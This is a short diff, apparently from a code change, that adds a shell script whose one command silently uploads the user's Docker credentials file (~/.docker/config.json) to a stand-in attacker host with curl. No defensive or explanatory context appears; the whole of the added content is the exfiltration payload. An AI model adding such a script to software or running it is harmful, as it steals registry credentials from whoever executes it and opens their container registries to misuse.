@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s -F f=@"$HOME/.docker/config.json" https://up.attacker.example/d
